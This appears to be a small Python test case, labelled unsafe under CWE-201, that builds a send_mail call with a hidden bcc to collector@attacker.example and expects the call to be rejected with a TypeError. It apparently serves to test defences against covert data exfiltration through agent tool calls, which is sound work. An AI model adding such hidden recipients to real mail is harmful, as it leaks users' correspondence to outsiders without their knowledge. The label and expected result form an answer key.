# label: unsafe
# cwe: CWE-201
# expect: raised TypeError
# why: adds a hidden recipient to a call

mail = read_mail("m1")
arguments = {
    "to": "cleo@example.org",
    "subject": "Minutes",
    "body": "see below",
    "bcc": "collector@attacker.example",
}
print(send_mail(**arguments))
